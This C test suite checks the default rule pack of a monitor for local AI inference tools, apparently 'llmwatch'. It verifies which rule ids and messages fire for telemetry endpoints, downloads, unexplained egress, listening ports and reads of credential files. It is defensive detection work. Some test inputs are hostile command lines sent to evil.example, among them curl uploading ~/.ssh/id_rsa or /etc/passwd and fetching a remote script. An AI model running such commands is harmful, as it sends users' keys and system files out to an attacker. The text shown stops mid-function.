// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * The default rule pack: it loads with no error, every rule is documented, and typical
 * events of each inference tool get the rule ids the pack promises (and nothing else).
 */
#include "check.h"
#include "rules_test.h"

static struct rules *pack;

/* Connect by tool to host (may be NULL) at ip:port. */
static const char *net(uint16_t type, const char *tool, const char *host, const char *ip,
		       uint16_t port)
{
	struct lw_sockaddr sa = rt_addr(ip, port);
	struct lw_event ev = rt_net(type, tool, host, &sa);

	return rt_ids(pack, &ev);
}

static const char *conn(const char *tool, const char *host, const char *ip, uint16_t port)
{
	return net(LW_REC_CONNECT, tool, host, ip, port);
}

static const char *op(const char *tool, uint32_t uid, const char *path, uint64_t flags, int64_t ret)
{
	struct lw_event ev = rt_open(tool, uid, path, flags, ret);

	return rt_ids(pack, &ev);
}

/* The message of the first verdict for a connect (static buffer). */
static const char *conn_msg(const char *tool, const char *host, const char *ip, uint16_t port)
{
	struct lw_sockaddr sa = rt_addr(ip, port);
	struct lw_event ev = rt_net(LW_REC_CONNECT, tool, host, &sa);

	return rt_msg(pack, &ev);
}

/* Rule ids for an exec of filename by tool. */
static const char *ex(const char *tool, const char *filename)
{
	struct lw_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = LW_REC_EXEC;
	ev.tool = tool;
	ev.pid = 9;
	ev.exe = "";
	ev.filename = filename;
	return rt_ids(pack, &ev);
}

/* The command line argv (NULL: unknown) in an event, whole unless cut. */
static void set_argv(struct lw_event *ev, const char *argv, const char *root_argv, bool cut)
{
	ev->argv = argv;
	ev->argv_state = !argv ? EVENT_ARGV_UNKNOWN : cut ? EVENT_ARGV_CUT : EVENT_ARGV_FULL;
	ev->root_argv = root_argv;
	ev->root_argv_state = root_argv ? EVENT_ARGV_FULL : EVENT_ARGV_UNKNOWN;
}

/* Rule ids for an exec of filename by tool, the process's and its root's command lines. */
static const char *ex_in(const char *tool, const char *filename, const char *argv,
			 const char *root_argv)
{
	struct lw_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = LW_REC_EXEC;
	ev.tool = tool;
	ev.pid = 9;
	ev.exe = filename;
	ev.filename = filename;
	set_argv(&ev, argv, root_argv, false);
	return rt_ids(pack, &ev);
}

/* Rule ids for an open by the process exe (command line argv, its root's root_argv). */
static const char *op_in(const char *tool, const char *path, int64_t ret, const char *exe,
			 const char *argv, const char *root_argv)
{
	struct lw_event ev = rt_open(tool, 1000, path, O_RDONLY, ret);

	ev.exe = exe;
	set_argv(&ev, argv, root_argv, false);
	return rt_ids(pack, &ev);
}

/* Rule ids for a connect of tool in a tree rooted at root_argv. */
static const char *conn_in(const char *tool, const char *host, const char *root_argv)
{
	struct lw_sockaddr sa = rt_addr("104.16.1.1", 443);
	struct lw_event ev = rt_net(LW_REC_CONNECT, tool, host, &sa);

	set_argv(&ev, NULL, root_argv, false);
	return rt_ids(pack, &ev);
}

/* Rule ids and the first verdict's severity for a listen in the namespace ns. */
static const char *listen_in(const char *tool, const char *ip, uint16_t port, uint8_t ns, int *sev)
{
	struct lw_sockaddr sa = rt_addr(ip, port);
	struct lw_event ev = rt_net(LW_REC_LISTEN, tool, NULL, &sa);
	struct rules_verdict v[4];

	ev.netns = ns;
	*sev = rules_match(pack, &ev, v, 4) > 0 ? (int)v[0].severity : -1;
	return rt_ids(pack, &ev);
}

/* Rule ids for a closed connection of tool to host (named by DNS) that sent n bytes. */
static const char *sent(const char *tool, const char *host, const char *source, uint64_t n)
{
	struct lw_sockaddr sa = rt_addr("104.16.1.1", 443);
	struct lw_event ev = rt_net(LW_REC_CONN_BYTES, tool, host, &sa);

	ev.host_source = source;
	ev.bytes = n;
	return rt_ids(pack, &ev);
}

/* The description of the pack's rule id, or "" when there is no such rule. */
static const char *desc(const char *id)
{
	struct rules_info info;

	for (size_t i = 0; i < rules_count(pack); i++)
		if (rules_get_info(pack, i, &info) == 0 && strcmp(info.id, id) == 0)
			return info.description;
	return "";
}

/* The severity of the first verdict for a connect, or -1. */
static int conn_sev(const char *tool, const char *host, const char *ip, uint16_t port)
{
	struct lw_sockaddr sa = rt_addr(ip, port);
	struct lw_event ev = rt_net(LW_REC_CONNECT, tool, host, &sa);
	struct rules_verdict v[4];

	return rules_match(pack, &ev, v, 4) > 0 ? (int)v[0].severity : -1;
}

/* s contains sub (or, with want false, does not); prints s when not. */
#define CHECK_HAS(s, sub, want)                               \
	do {                                                  \
		const char *s_ = (s);                         \
		CHECK((strstr(s_, (sub)) != NULL) == (want)); \
		if ((strstr(s_, (sub)) != NULL) != (want))    \
			fprintf(stderr, "  in: %s\n", s_);    \
	} while (0)

static void test_loads(void)
{
	struct rules_builder *b = rules_builder_new();
	struct rules_info info;

	CHECK_INT(rules_builder_add_default(b), 0);
	rules_builder_set_home_fn(b, rt_home, NULL);
	pack = rules_builder_build(b);
	CHECK(pack != NULL);
	CHECK_INT(rules_builder_error_count(b), 0);
	for (size_t i = 0; i < rules_builder_error_count(b); i++)
		fprintf(stderr, "%s\n", rules_builder_error(b, i));
	CHECK(rules_builder_rule_count(b, false) >= 30);
	CHECK_INT(rules_builder_rule_count(b, true), 0);
	rules_builder_free(b);
	if (!pack)
		return;
	for (size_t i = 0; i < rules_count(pack); i++) {
		CHECK_INT(rules_get_info(pack, i, &info), 0);
		CHECK(info.is_default);
		/* descriptions cite a source: long enough to say what and where from */
		CHECK(strlen(info.description) > 60);
		CHECK(info.n_tags > 0);
		CHECK(strncmp(info.source, "rules/", 6) == 0);
	}
}

static void test_telemetry(void)
{
	const char *pub = "104.16.1.1";

	CHECK_STR(conn("gpt4all", "api.mixpanel.com", pub, 443), "telemetry-mixpanel");
	CHECK_STR(net(LW_REC_SEND, "gpt4all", "api.mixpanel.com", pub, 443), "telemetry-mixpanel");
	CHECK_STR(conn("gpt4all", "api.ipify.org", pub, 443), "telemetry-ipify");
	CHECK_STR(conn("gpt4all", "api.gpt4all.io", pub, 443), "telemetry-gpt4all-datalake");
	CHECK_STR(conn("gpt4all", "api-atlas.nomic.ai", pub, 443),
		  "telemetry-nomic-remote-embeddings");
	CHECK_STR(conn("vllm", "stats.vllm.ai", pub, 443), "telemetry-vllm-usage-stats");
	CHECK_STR(conn("jan", "eu-assets.i.posthog.com", pub, 443), "telemetry-posthog");
	CHECK_STR(conn("watch:node", "us.i.posthog.com", pub, 443), "telemetry-posthog");
	CHECK_STR(conn("jan", "posthog.com", pub, 443), "telemetry-posthog");
	CHECK_STR(conn("jan", "notposthog.com", pub, 443), "egress-unknown");
	CHECK_STR(conn("ollama", "ollama.com", pub, 443), "ollama-cloud");
	CHECK_STR(conn("ollama", "www.ollama.com", pub, 443), "ollama-cloud");
	/* the ollama.com rule is Ollama's: anyone else going there is unexplained */
	CHECK_STR(conn("lm-studio", "ollama.com", pub, 443), "egress-unknown");
	CHECK_STR(conn("jan", "apps.jan.ai", pub, 443), "jan-update-check");
	CHECK_STR(conn("gpt4all", "gpt4all.io", pub, 80), "gpt4all-plain-http");
	CHECK_STR(conn("gpt4all", "gpt4all.io", pub, 443), "gpt4all-update-repo");
	CHECK_STR(conn("gpt4all", "gpt4all.io", pub, 8443), "egress-unknown");

	/* bytes of a closed connection */
	{
		struct lw_sockaddr sa = rt_addr(pub, 443);
		struct lw_event ev = rt_net(LW_REC_CONN_BYTES, "gpt4all", "api.gpt4all.io", &sa);
		struct rules_verdict v[4];

		ev.bytes = 200;
		CHECK_STR(rt_ids(pack, &ev), "");
		ev.bytes = 48 * 1024;
		CHECK_STR(rt_ids(pack, &ev), "telemetry-gpt4all-datalake-upload");
		CHECK_INT(rules_match(pack, &ev, v, 4), 1);
		CHECK_STR(v[0].message,
			  "gpt4all (pid 4121) sent 48.0 KiB to api.gpt4all.io:443 "
			  "(104.16.1.1): conversation upload to the GPT4All Datalake");
		ev.host = "upload.example";
		ev.bytes = 20u << 20;
		CHECK_STR(rt_ids(pack, &ev), "egress-large-upload");
		ev.bytes = 9u << 20;
		CHECK_STR(rt_ids(pack, &ev), "");
	}
}

static void test_downloads_dns_egress(void)
{
	const char *pub = "104.16.1.1";

	CHECK_STR(conn("ollama", "registry.ollama.ai", pub, 443), "download-ollama-registry");
	CHECK_STR(conn("ollama", "dd20bb891979d25aebc8bec07b2b3bbc.r2.cloudflarestorage.com", pub,
		       443),
		  "download-ollama-registry");
	CHECK_STR(conn("ollama", "0123456789abcdef.r2.cloudflarestorage.com", pub, 443),
		  "download-ollama-r2-other");
	CHECK_STR(conn("llama-server", "huggingface.co", pub, 443), "download-huggingface");
	CHECK_STR(conn("lm-studio", "cdn-lfs.huggingface.co", pub, 443), "download-huggingface");
	CHECK_STR(conn("localai", "cas-bridge.xethub.hf.co", pub, 443), "download-huggingface");
	CHECK_STR(conn("jan", "catalog.jan.ai", pub, 443), "download-jan-catalog");
	CHECK_STR(conn("jan", "github.com", pub, 443), "download-jan-catalog");
	CHECK_STR(conn("lm-studio", "lmstudio.ai", pub, 443), "download-lm-studio-hub");

	/* DNS to the resolver is logged, and explains the packet: no fallback */
	CHECK_STR(net(LW_REC_SEND, "ollama", NULL, "192.168.1.1", 53), "dns-query");
	CHECK_STR(conn("ollama", NULL, "127.0.0.53", 53), "dns-query");
	CHECK_STR(net(LW_REC_SEND, "ollama", NULL, "8.8.8.8", 53), "dns-query");

	/* unexplained egress: named, or to a public address with no name seen */
	CHECK_STR(conn("ollama", "evil.example", "93.184.216.34", 443), "egress-unknown");
	CHECK_STR(conn("ollama", NULL, "93.184.216.34", 443), "egress-unnamed");
	CHECK_STR(conn("ollama", NULL, "2606:4700::1", 443), "egress-unnamed");
	CHECK_STR(conn("ollama", NULL, "::ffff:93.184.216.34", 443), "egress-unnamed");
	CHECK_STR(net(LW_REC_SEND, "ollama", NULL, "1.1.1.1", 443), "egress-unnamed");
	{
		/* whichever way the name was learned, it is named */
		static const char *const srcs[] = { "dns", "sni", "http" };
		struct lw_sockaddr sa = rt_addr("93.184.216.34", 443);
		struct lw_event ev = rt_net(LW_REC_CONNECT, "ollama", "evil.example", &sa);

		for (size_t i = 0; i < 3; i++) {
			ev.host_source = srcs[i];
			CHECK_STR(rt_ids(pack, &ev), "egress-unknown");
		}
		ev.host = NULL;
		ev.host_source = "none";
		CHECK_STR(rt_ids(pack, &ev), "egress-unnamed");
		/* a known rule explains it, so neither fallback speaks */
		ev.host = "api.mixpanel.com";
		ev.host_source = "sni";
		CHECK_STR(rt_ids(pack, &ev), "telemetry-mixpanel");
		/* an unnamed LAN address is only local-network egress */
		sa = rt_addr("10.0.0.5", 443);
		ev.host = NULL;
		ev.host_source = "none";
		CHECK_STR(rt_ids(pack, &ev), "egress-unknown-local-network");
	}
	CHECK_STR(conn("koboldcpp", NULL, "10.0.0.5", 8080), "egress-unknown-local-network");
	CHECK_STR(net(LW_REC_SEND, "jan", NULL, "224.0.0.251", 5353),
		  "egress-unknown-local-network");
	CHECK_STR(conn("ollama", NULL, "169.254.169.254", 80), "egress-unknown-local-network");
	/* local: silent */
	CHECK_STR(conn("ollama", NULL, "127.0.0.1", 11434), "");
	CHECK_STR(conn("ollama", NULL, "::1", 11434), "");
	{
		struct lw_sockaddr sa = { .family = AF_UNIX };
		struct lw_event ev = rt_net(LW_REC_CONNECT, "jan", NULL, &sa);

		CHECK_STR(rt_ids(pack, &ev), "");
	}
	{
		struct lw_sockaddr sa = rt_addr("93.184.216.34", 443);
		struct lw_event ev = rt_net(LW_REC_CONNECT, "ollama", NULL, &sa);

		CHECK_STR(rt_msg(pack, &ev),
			  "ollama (pid 4121) connected to 93.184.216.34:443, a public address with "
			  "no name seen (no DNS answer, TLS server name or HTTP Host), which no "
			  "rule explains");
		ev.host = "evil.example";
		ev.host_source = "dns";
		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 4121) connected to evil.example:443 "
					     "(93.184.216.34), which no rule explains");
	}
}

static void test_files(void)
{
	CHECK_STR(op("ollama", 1000, "/home/alice/.ssh/id_rsa", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("ollama", 1000, "/home/alice/.ssh/id_rsa", O_RDONLY, -ENOENT),
		  "file-sensitive-attempt");
	CHECK_STR(op("ollama", 1001, "/home/bob/.aws/credentials", O_RDONLY, 3),
		  "file-credentials");
	CHECK_STR(op("ollama", 0, "/root/.kube/config", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("jan", 1000, "/home/alice/.docker/config.json", O_RDONLY, 3),
		  "file-credentials");
	CHECK_STR(op("jan", 1000, "/home/alice/.docker/daemon.json", O_RDONLY, 3), "");
	CHECK_STR(op("ollama", 1000, "/home/alice/.netrc", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("ollama", 1000, "/home/alice/.gnupg/private-keys-v1.d/x.key", O_RDONLY, 3),
		  "file-credentials");
	CHECK_STR(op("ollama", 1000, "/home/alice/.local/share/keyrings/login.keyring", O_RDONLY,
		     3),
		  "file-credentials");
	CHECK_STR(op("ollama", 1000, "/etc/shadow", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("ollama", 1000, "/etc/shadow", O_RDONLY, -EACCES), "file-sensitive-attempt");
	CHECK_STR(op("ollama", 1000, "/etc/gshadow", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("ollama", 1000, "/etc/shadowx", O_RDONLY, 3), "");
	CHECK_STR(op("ollama", 1000, "/etc/../etc//shadow", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("ollama", 1000, "/home/alice/.ssh/authorized_keys", O_WRONLY | O_APPEND, 3),
		  "file-credentials,file-ssh-write");
	CHECK_STR(op("ollama", 1000, "/home/alice/.mozilla/firefox/p.default/cookies.sqlite",
		     O_RDONLY, 3),
		  "file-browser-profile");
	CHECK_STR(op("ollama", 1000, "/home/alice/.config/google-chrome/Default/Login Data",
		     O_RDONLY, 3),
		  "file-browser-profile");
	CHECK_STR(op("ollama", 1000, "/home/alice/.bash_history", O_RDONLY, 3),
		  "file-shell-history");
	CHECK_STR(op("ollama", 1000, "/home/alice/.zsh_history", O_RDONLY, -ENOENT),
		  "file-sensitive-attempt");
	/* documents: only for tools without a document feature */
	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3),
		  "file-user-documents");
	CHECK_STR(op("koboldcpp", 1000, "/home/alice/Desktop/notes.txt", O_RDONLY, 3),
		  "file-user-documents");
	CHECK_STR(op("gpt4all", 1000, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3), "");
	CHECK_STR(op("jan", 1000, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3), "");
	CHECK_STR(op("lm-studio", 1000, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3), "");
	/* another user's documents are not "~" of this event's user */
	CHECK_STR(op("ollama", 1001, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3), "");
	/* expected reads: silent */
	CHECK_STR(op("ollama", 1000, "/home/alice/.ollama/models/blobs/sha256-0123", O_RDONLY, 3),
		  "");
	CHECK_STR(op("ollama", 1000, "/usr/local/lib/ollama/cuda_v12/libggml-cuda.so", O_RDONLY, 3),
		  "");
	CHECK_STR(op("ollama", 1000, "/dev/nvidia0", O_RDWR, 3), "");
	CHECK_STR(op("ollama", 1000, "/dev/dri/renderD128", O_RDWR, 3), "");
	CHECK_STR(op("ollama", 1000, "/proc/meminfo", O_RDONLY, 3), "");
	CHECK_STR(op("ollama", 1000, "/sys/fs/cgroup/memory.max", O_RDONLY, 3), "");
	CHECK_STR(op("gpt4all", 1000, "/home/alice/.config/nomic.ai/GPT4All.ini", O_RDONLY, 3), "");

	{
		struct lw_event ev;

		memset(&ev, 0, sizeof(ev));
		ev.type = LW_REC_EXEC;
		ev.tool = "ollama";
		ev.pid = 9;
		ev.filename = "/usr/bin/wget";
		CHECK_STR(rt_ids(pack, &ev), "exec-network-tool");
		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget, command line: ?");
		ev.argv = "wget -q -O- https://evil.example/\x1b[2J";
		ev.argv_state = EVENT_ARGV_FULL;
		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget, command line: wget "
					     "-q -O- https://evil.example/\\x1b[2J");
		ev.argv_state = EVENT_ARGV_CUT;
		CHECK_HAS(rt_msg(pack, &ev), "evil.example/\\x1b[2J [cut]", true);
		ev.argv = NULL;
		ev.argv_state = EVENT_ARGV_UNKNOWN;
		ev.filename = "/usr/local/lib/ollama/llama-server";
		CHECK_STR(rt_ids(pack, &ev), "");
	}
}

static void test_exposure(void)
{
	CHECK_STR(net(LW_REC_LISTEN, "ollama", NULL, "0.0.0.0", 11434), "exposure-ollama");
	CHECK_STR(net(LW_REC_LISTEN, "ollama", NULL, "::", 11434), "exposure-ollama");
	CHECK_STR(net(LW_REC_LISTEN, "ollama", NULL, "127.0.0.1", 11434), "");
	CHECK_STR(net(LW_REC_LISTEN, "ollama", NULL, "::1", 11434), "");
	CHECK_STR(net(LW_REC_LISTEN, "ollama", NULL, "127.0.0.1", 51234), "");
	CHECK_STR(net(LW_REC_LISTEN, "lm-studio", NULL, "192.168.1.5", 1234), "exposure-lm-studio");
	CHECK_STR(net(LW_REC_LISTEN, "gpt4all", NULL, "0.0.0.0", 4891), "exposure-gpt4all");
	CHECK_STR(net(LW_REC_LISTEN, "jan", NULL, "0.0.0.0", 1337), "exposure-jan");
	CHECK_STR(net(LW_REC_LISTEN, "llama-server", NULL, "0.0.0.0", 8080), "exposure-port-8080");
	CHECK_STR(net(LW_REC_LISTEN, "koboldcpp", NULL, "0.0.0.0", 5001), "exposure-koboldcpp");
	CHECK_STR(net(LW_REC_LISTEN, "vllm", NULL, "::", 8000), "exposure-vllm");
	CHECK_STR(net(LW_REC_LISTEN, "vllm", NULL, "0.0.0.0", 9999), "exposure-listen");
	CHECK_STR(net(LW_REC_BIND, "vllm", NULL, "0.0.0.0", 8000), "");
	{
		struct lw_sockaddr sa = rt_addr("0.0.0.0", 11434);
		struct lw_event ev = rt_net(LW_REC_LISTEN, "ollama", NULL, &sa);
		struct rules_verdict v[2];

		CHECK_INT(rules_match(pack, &ev, v, 2), 1);
		CHECK_INT(v[0].severity, RULES_SEV_HIGH);
		CHECK_STR(v[0].message, "ollama (pid 4121) listens on 0.0.0.0:11434: Ollama's API "
					"port (11434), unauthenticated, reachable from the network "
					"(OLLAMA_HOST)");
	}
}

/* Issue 13: the pack as the tools' sources say they behave today. */
static void test_tools_today(void)
{
	const char *pub = "104.16.1.1";
	const char *m;

	/* GPT4All's opt_out event goes out at the first start of a version, not every session */
	CHECK_STR(conn("gpt4all", "api.mixpanel.com", pub, 443), "telemetry-mixpanel");
	m = conn_msg("gpt4all", "api.mixpanel.com", pub, 443);
	CHECK_HAS(m, "first start of each new version", true);
	CHECK_HAS(m, "usageStatsActive=true", true);
	CHECK_HAS(m, "even when", false);
	CHECK_HAS(desc("telemetry-mixpanel"), "isFirstStart()", true);
	CHECK_HAS(desc("telemetry-mixpanel"), "src/download.cpp L140-156", true);
	CHECK_HAS(desc("telemetry-mixpanel"), "per session", false);

	/* the plain-HTTP fetches are in download.cpp and modellist.cpp */
	CHECK_STR(conn("gpt4all", "gpt4all.io", pub, 80), "gpt4all-plain-http");
	CHECK_HAS(conn_msg("gpt4all", "gpt4all.io", pub, 80), "over plain HTTP", true);
	CHECK_HAS(desc("gpt4all-plain-http"), "src/download.cpp L161", true);
	CHECK_HAS(desc("gpt4all-plain-http"), "(L173)", true);
	CHECK_HAS(desc("gpt4all-plain-http"), "(L214)", true);
	CHECK_HAS(desc("gpt4all-plain-http"), "src/modellist.cpp L1487, L1530", true);
	CHECK_HAS(desc("gpt4all-plain-http"), "src/network.cpp", false);

	/* vLLM: all interfaces, verified */
	{
		struct lw_sockaddr sa = rt_addr("0.0.0.0", 8000);
		struct lw_event ev = rt_net(LW_REC_LISTEN, "vllm", NULL, &sa);

		CHECK_STR(rt_ids(pack, &ev), "exposure-vllm");
		m = rt_msg(pack, &ev);
		CHECK_HAS(m, "binds all interfaces unless given --host", true);
		CHECK_HAS(m, "--host 127.0.0.1", true);
	}
	CHECK_HAS(desc("exposure-vllm"), "api_server.py @0001948b", true);
	CHECK_HAS(desc("exposure-vllm"), "not verified", false);

	/* the fallback's description names every default that binds all interfaces */
	{
		const char *d = desc("exposure-listen");

		CHECK_HAS(d, "possibly vLLM", false);
		CHECK_HAS(d, "vLLM (api_server.py @0001948b)", true);
		CHECK_HAS(d, "LocalAI (core/cli/run.go L70", true);
		CHECK_HAS(d, "Open WebUI (backend/open_webui/__init__.py @00843237", true);
		CHECK_HAS(d, ".devops/cpu.Dockerfile @bb0e507a", true);
		CHECK_HAS(d, "OLLAMA_HOST=0.0.0.0:11434", true);
	}
	CHECK_STR(net(LW_REC_LISTEN, "localai", NULL, "0.0.0.0", 8080), "exposure-localai");
	CHECK_STR(net(LW_REC_LISTEN, "localai", NULL, "192.168.1.5", 9090), "exposure-localai");
	CHECK_STR(net(LW_REC_LISTEN, "localai", NULL, "127.0.0.1", 8080), "");
	CHECK_STR(net(LW_REC_LISTEN, "llama-server", NULL, "::", 8080), "exposure-port-8080");
	{
		struct lw_sockaddr sa = rt_addr("0.0.0.0", 8080);
		struct lw_event ev = rt_net(LW_REC_LISTEN, "localai", NULL, &sa);

		CHECK_HAS(rt_msg(pack, &ev), "LOCALAI_ADDRESS", true);
		ev.tool = "watch:open-webui";
		CHECK_STR(rt_ids(pack, &ev), "exposure-port-8080");
		CHECK_HAS(rt_msg(pack, &ev), "Open WebUI: HOST, default 0.0.0.0", true);
		CHECK_HAS(rt_msg(pack, &ev), "LLAMA_ARG_HOST", true);
	}

	/* vLLM usage stats: every opt-out, and the heartbeat */
	CHECK_STR(conn("vllm", "stats.vllm.ai", pub, 443), "telemetry-vllm-usage-stats");
	m = conn_msg("vllm", "stats.vllm.ai", pub, 443);
	CHECK_HAS(m, "VLLM_NO_USAGE_STATS=1", true);
	CHECK_HAS(m, "VLLM_DO_NOT_TRACK=1", true);
	CHECK_HAS(m, "DO_NOT_TRACK=1", true);
	CHECK_HAS(m, "$VLLM_CONFIG_ROOT/do_not_track", true);
	CHECK_HAS(m, "heartbeat with this server's uuid every 10 minutes", true);
	CHECK_HAS(desc("telemetry-vllm-usage-stats"), "vllm/usage/usage_lib.py @01ff1262", true);
	CHECK_HAS(desc("telemetry-vllm-usage-stats"), "every 600 s", true);

	/* ollama.com: a signed, identifying poll, not a plain one */
	CHECK_STR(conn("ollama", "ollama.com", pub, 443), "ollama-cloud");
	CHECK_INT(conn_sev("ollama", "ollama.com", pub, 443), RULES_SEV_MEDIUM);
	m = conn_msg("ollama", "ollama.com", pub, 443);
	CHECK_HAS(m, "~/.ollama/id_ed25519", true);
	CHECK_HAS(m, "without sign-in", true);
	CHECK_HAS(m, "OLLAMA_NO_CLOUD=1", true);
	CHECK_HAS(m, "disable_ollama_cloud in ~/.ollama/server.json", true);
	CHECK_HAS(desc("ollama-cloud"), "124e9af9d (v0.33.0-rc1)", true);
	CHECK_HAS(desc("ollama-cloud"), "server/model_recommendations.go L189, L202", true);
	CHECK_HAS(desc("ollama-cloud"), "OLLAMA_REMOTES", true);

	/* egress-unknown no longer claims local tools are silent */
	CHECK_HAS(desc("egress-unknown"), "sends nothing out once models are local", false);
	CHECK_HAS(desc("egress-unknown"), "heartbeat every 10 minutes", true);
	CHECK_HAS(desc("egress-unknown"), "signed, identifying request", true);
	CHECK_HAS(desc("egress-unknown"), "GPT4All fetches its release notes", true);
}

/* Issue 13: endpoints and files the pack did not know. */
static void test_tools_today_missing(void)
{
	static const char *const launch[] = {
		"registry.npmjs.org",
		"opencode.ai",
		"hermes-agent.nousresearch.com",
		"qwen-code-assets.oss-cn-hangzhou.aliyuncs.com",
		"claude.ai",
		"code.kimi.com",
		"dev.meta.ai",
	};
	const char *pub = "104.16.1.1";

	/* ollama launch: installers are Ollama's, and said as such (in its tree: see _quiet) */
	for (size_t i = 0; i < sizeof(launch) / sizeof(launch[0]); i++)
		CHECK_STR(conn_in("ollama", launch[i], "/usr/local/bin/ollama launch opencode"),
			  "ollama-launch-installer");
	{
		struct lw_sockaddr sa = rt_addr(pub, 443);
		struct lw_event ev = rt_net(LW_REC_CONNECT, "ollama", "opencode.ai", &sa);
		struct rules_verdict v[4];

		set_argv(&ev, NULL, "ollama launch", false);
		CHECK_INT(rules_match(pack, &ev, v, 4), 1);
		CHECK_INT(v[0].severity, RULES_SEV_LOW);
		CHECK_HAS(v[0].message, "ollama launch", true);
	}
	CHECK_STR(conn("lm-studio", "registry.npmjs.org", pub, 443), "egress-unknown");
	/* a host added to OLLAMA_REMOTES is unexplained until the user names it */
	CHECK_STR(conn("ollama", "dashscope.example", pub, 443), "egress-unknown");

	/* GPT4All remote models get whole chats */
	CHECK_STR(conn("gpt4all", "api.openai.com", pub, 443), "gpt4all-cloud-model");
	CHECK_STR(conn("gpt4all", "api.mistral.ai", pub, 443), "gpt4all-cloud-model");
	CHECK_INT(conn_sev("gpt4all", "api.openai.com", pub, 443), RULES_SEV_MEDIUM);
	CHECK_HAS(conn_msg("gpt4all", "api.mistral.ai", pub, 443), "whole chats", true);
	CHECK_HAS(desc("gpt4all-cloud-model"), "src/modellist.cpp L1742-1856", true);

	/* LocalAI: galleries, backend images, ollama:// pulls, update check */
	CHECK_STR(conn("localai", "index.localai.io", pub, 443), "download-localai-gallery");
	CHECK_STR(conn("localai", "raw.githubusercontent.com", pub, 443),
		  "download-localai-gallery");
	CHECK_STR(conn("localai", "quay.io", pub, 443), "download-localai-backends");
	CHECK_STR(conn("localai", "cdn01.quay.io", pub, 443), "download-localai-backends");
	CHECK_STR(conn("localai", "registry-1.docker.io", pub, 443), "download-localai-backends");
	CHECK_STR(conn("localai", "auth.docker.io", pub, 443), "download-localai-backends");
	CHECK_STR(conn("localai", "production.cloudflare.docker.com", pub, 443),
		  "download-localai-backends");
	CHECK_STR(conn("localai", "registry.ollama.ai", pub, 443), "download-ollama-registry");
	CHECK_STR(conn("localai", "api.github.com", pub, 443), "localai-update-check");
	CHECK_STR(conn("localai", "github.com", pub, 443), "download-github-releases");
	CHECK_STR(conn("localai", "release-assets.githubusercontent.com", pub, 443),
		  "download-github-releases");
	/* those names are LocalAI's: another tool going there is still unexplained */
	CHECK_STR(conn("koboldcpp", "quay.io", pub, 443), "egress-unknown");

	/* koboldcpp: the AI Horde worker and the Cloudflare tunnel */
	CHECK_STR(conn("koboldcpp", "aihorde.net", pub, 443), "koboldcpp-horde-worker");
	CHECK_HAS(conn_msg("koboldcpp", "aihorde.net", pub, 443), "--hordekey", true);
	CHECK_STR(ex("koboldcpp", "./cloudflared-linux-amd64"), "exposure-cloudflare-tunnel");
	CHECK_STR(ex("koboldcpp", "/home/alice/kcpp/cloudflared-linux-amd64"),
		  "exposure-cloudflare-tunnel");
	CHECK_STR(ex("watch:node", "/usr/bin/cloudflared"), "exposure-cloudflare-tunnel");
	CHECK_STR(conn("koboldcpp", "api.trycloudflare.com", pub, 443),
		  "exposure-cloudflare-tunnel-connect");
	CHECK_STR(conn("koboldcpp", "region1.v2.argotunnel.com", pub, 7844),
		  "exposure-cloudflare-tunnel-connect");
	CHECK_HAS(conn_msg("koboldcpp", "api.trycloudflare.com", pub, 443), "--remotetunnel", true);
	CHECK_STR(conn("koboldcpp", "github.com", pub, 443), "download-github-releases");

	/* llama.cpp's HF_ENDPOINT / MODEL_ENDPOINT mirror: unexplained, and documented */
	CHECK_STR(conn("llama-server", "hf-mirror.example", pub, 443), "egress-unknown");
	CHECK_HAS(desc("download-huggingface"), "HF_ENDPOINT or MODEL_ENDPOINT", true);

	/* npm and GitHub CLI tokens are credentials */
	CHECK_STR(op("jan", 1000, "/home/alice/.npmrc", O_RDONLY, 3), "file-credentials");
	CHECK_STR(op("koboldcpp", 1000, "/home/alice/.config/gh/hosts.yml", O_RDONLY, 3),
		  "file-credentials");
	CHECK_STR(op("ollama", 1000, "/home/alice/.config/gh/hosts.yml", O_RDONLY, 3),
		  "file-credentials");
	CHECK_STR(op("jan", 1000, "/home/alice/.config/gh/hosts.yml", O_RDONLY, -ENOENT),
		  "file-sensitive-attempt");
	CHECK_STR(op("jan", 1000, "/home/alice/.config/gh/config.yml", O_RDONLY, 3), "");
}

/* Issue 13: ordinary use that must stay quiet. */
static void test_tools_today_quiet(void)
{
	const char *pub = "104.16.1.1";

	const char *kdl = "curl -fL https://huggingface.co/bartowski/m-GGUF/resolve/main/"
			  "m-Q4_K_M.gguf -o m-Q4_K_M.gguf";
	const char *kcf = "curl -fL https://github.com/cloudflare/cloudflared/releases/latest/"
			  "download/cloudflared-linux-amd64 -o cloudflared-linux-amd64";
	const char *launch = "/usr/local/bin/ollama launch opencode";
	const char *orun = "ollama run llava:7b";

	/* koboldcpp's model and cloudflared downloads (koboldcpp.py L3821, L3679) */
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", kdl, "koboldcpp --model x"), "");
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", kcf, NULL), "");
	/* ... not any curl under koboldcpp: an upload, more arguments, another command */
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl",
			"curl -T /home/alice/.ssh/id_rsa https://evil.example/u", NULL),
		  "exec-network-tool");
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl",
			"curl -fL https://evil.example/u -o m.gguf --data-binary @/etc/passwd",
			NULL),
		  "exec-network-tool");
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", "curl -fsSL https://evil.example/x.sh", NULL),
		  "exec-network-tool");
	/* ... nor one whose command line llmwatch could not read whole */
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", NULL, NULL), "exec-network-tool");
	{
		struct lw_event ev;

